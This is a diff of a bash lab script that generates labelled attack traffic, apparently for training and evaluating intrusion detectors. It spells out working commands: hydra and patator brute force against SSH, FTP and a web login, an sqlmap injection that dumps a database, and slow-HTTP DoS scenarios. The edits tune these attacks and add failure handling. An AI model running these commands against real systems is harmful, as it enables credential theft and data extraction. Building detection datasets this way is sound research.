@@ -82,8 +82,10 @@ define_attacks() {
                "patator ftp_login host=$v user=FILE0 password=FILE1 0=$WORK/users.txt 1=$WORK/passwords.txt --threads=4 --max-retries=0 -x ignore:mesg='Login incorrect.'") ;;
     eval/bruteforce)
       ATK_LABEL=(SSH-Patator FTP-Patator); ATK_TOOL=(hydra hydra); ATK_MODE=("ssh" "ftp")
-      ATK_CMD=("cd $WORK && hydra -I -t 4 -L $WORK/users.txt -P $WORK/passwords.txt ssh://$v"
-               "cd $WORK && hydra -I -t 4 -L $WORK/users.txt -P $WORK/passwords.txt ftp://$v") ;;
+      # -w 3: when sshd/vsftpd drop a connection after their maximum of failed tries, hydra otherwise
+      # waits its default 32 s before reconnecting (the attack would be almost idle).
+      ATK_CMD=("cd $WORK && hydra -I -t 4 -w 3 -L $WORK/users.txt -P $WORK/passwords.txt ssh://$v"
+               "cd $WORK && hydra -I -t 4 -w 3 -L $WORK/users.txt -P $WORK/passwords.txt ftp://$v") ;;
     train/web)
       ATK_LABEL=("Web Attack - Brute Force" "Web Attack - SQL Injection"); ATK_TOOL=(hydra sqlmap)
       ATK_MODE=("http-post-form" "boolean-blind (--technique=B)")
@@ -92,7 +94,8 @@ define_attacks() {
     eval/web)
       ATK_LABEL=("Web Attack - Brute Force" "Web Attack - SQL Injection"); ATK_TOOL=(patator sqlmap)
       ATK_MODE=("http_fuzz POST" "UNION + error (--technique=UE)")
-      ATK_CMD=("patator http_fuzz url=http://$v/app/login method=POST body='user=FILE0&pass=FILE1' 0=$WORK/users.txt 1=$WORK/passwords.txt --threads=4 --max-retries=0 -x ignore:fgrep='Login failed'"
+      # resolve=: patator 0.9 passes an empty CURLOPT_RESOLVE to Debian 12's libcurl otherwise (every try fails)
+      ATK_CMD=("patator http_fuzz url=http://$v/app/login resolve=$v:$v method=POST body='user=FILE0&pass=FILE1' 0=$WORK/users.txt 1=$WORK/passwords.txt --threads=4 --max-retries=0 -x ignore:fgrep='Login failed'"
                "sqlmap -u 'http://$v/app/item?id=1' --batch --technique=UE --dbms=SQLite --dump --threads=2 --flush-session --output-dir=$WORK/sqlmap") ;;
     train/slowdos)
       ATK_LABEL=("DoS Slowloris" "DoS Slowhttptest"); ATK_TOOL=(slowhttptest slowhttptest)
@@ -444,13 +447,14 @@ case "$CMD" in
   check) m=$(missing_requirements); [ -z "$m" ] || { echo "$m"; exit 77; }; echo "lab: requirements present" ;;
   record) [ -n "$SCENARIO" ] || die "record needs a scenario (${SCENARIOS[*]})"; record "$SCENARIO" ;;
   record-all)
-    start=$(date +%s)
+    start=$(date +%s); failed=()
     for s in train eval; do
       seed=$TRAIN_SEED; [ $s = eval ] && seed=$EVAL_SEED
       for sc in "${SCENARIOS[@]}"; do
-        "$0" record "$sc" --set $s --seed "$seed" --out "$OUT_ROOT" --duration "$DURATION"
+        "$0" record "$sc" --set $s --seed "$seed" --out "$OUT_ROOT" --duration "$DURATION" || failed+=("$s/$sc")
       done
     done
-    echo "lab: recorded train and eval (${#SCENARIOS[@]} scenarios each) into $OUT_ROOT in $(( $(date +%s) - start )) s" ;;
+    echo "lab: recorded train and eval (${#SCENARIOS[@]} scenarios each) into $OUT_ROOT in $(( $(date +%s) - start )) s"
+    [ ${#failed[@]} -eq 0 ] || die "failed: ${failed[*]} (rerun them with: record SCENARIO --set SET)" ;;
   *) usage 2 ;;
 esac
